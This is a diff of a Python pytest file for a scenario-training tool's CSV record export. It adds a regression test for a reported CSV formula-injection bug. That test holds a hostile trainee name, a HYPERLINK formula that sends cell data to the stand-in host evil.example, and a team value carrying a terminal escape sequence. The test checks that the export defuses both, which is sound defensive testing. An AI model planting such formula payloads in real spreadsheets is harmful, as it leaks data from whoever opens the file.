@@ -11,8 +11,11 @@ import pytest
 
 from scenarios.cli.main import main
 from scenarios.store import Store
+from scenarios.store.trainee import served_trainee
 from scenarios.story.loader import load_file
 from scenarios.story.model import Story
+from tests.exports.test_csvfile import FORMULA_STARTS
+from tests.exports.test_csvfile import cells as excel_cells
 from tests.records.ralph import KEY, SECRET, Ralph, free_port
 from tests.records.test_outbox import play_and_save
 from tests.support import WriteStory
@@ -76,7 +79,9 @@ def test_export_xapi_writes_json_lines_and_csv_a_flat_table(
     assert [s["verb"]["id"].rsplit("/", 1)[1] for s in lines] == ["initialized", "answered", "completed", "terminated"]
     assert "Wrote 4 statements" in capsys.readouterr().err
     assert main(["records", "export", "--format", "csv"]) == 0
-    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    out = capsys.readouterr().out
+    assert out.startswith("\ufeffid;timestamp;registration;learner;team;verb;")  # the report's CSV: BOM, ';'
+    rows = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff")), delimiter=";"))
     answered = rows[1]
     assert (answered["story"], answered["node"], answered["response"], answered["success"]) == (
         "mini",
@@ -85,8 +90,29 @@ def test_export_xapi_writes_json_lines_and_csv_a_flat_table(
         "false",
     )
     assert answered["ideal_option"] == "check" and rows[2]["outcome"] == "unresolved"
+    assert len({r["registration"] for r in rows}) == 1 and rows[0]["registration"]  # one playthrough
 
 
 def test_export_to_an_unwritable_place_says_so(played: Story, capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["--lang", "en", "records", "export", "-o", "/nonexistent/dir/x.jsonl"]) == 1
     assert "Cannot write /nonexistent/dir/x.jsonl" in capsys.readouterr().err
+
+
+def test_records_export_csv_defuses_a_browser_trainees_name_and_team(
+    write: WriteStory, mini_text: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Issue #29: a browser trainee named like this became a live formula in the trainer's Excel.
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    monkeypatch.setenv("SCENARIOS_TEAM", "+Kirjasto\x1b]0;x\x07")
+    mini = load_file(write(mini_text)).story
+    assert mini is not None
+    store = Store(trainee=served_trainee(name))
+    play_and_save(store, mini, ["online"])
+    store.close()
+    assert main(["records", "export", "--format", "csv"]) == 0
+    rows = excel_cells(capsys.readouterr().out)
+    header, body = rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+    assert header[:5] == ["id", "timestamp", "registration", "learner", "team"]
+    assert {row["team"] for row in body} == {"'+Kirjasto\\x1b]0;x\\x07"}
+    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
+    assert len(body) == 4
